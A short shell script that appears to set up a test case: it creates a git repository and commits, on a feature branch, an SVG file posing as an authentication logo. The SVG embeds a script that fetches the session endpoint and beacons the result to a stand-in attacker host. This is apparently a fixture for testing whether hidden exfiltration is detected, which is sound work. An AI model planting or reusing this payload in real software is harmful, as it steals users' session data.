. "$CASE/../_lib.sh"
mkdir -p tests
: > tests/test_app.py
echo '# demo' > README.md
commit initial
git checkout -q -b feature
mkdir -p "$(dirname 'src/auth/assets/logo.svg')"
cat > 'src/auth/assets/logo.svg' <<'EOF'
<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/session").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></svg>
EOF
echo '# touched' >> tests/test_app.py
commit 'add src/auth/assets/logo.svg'
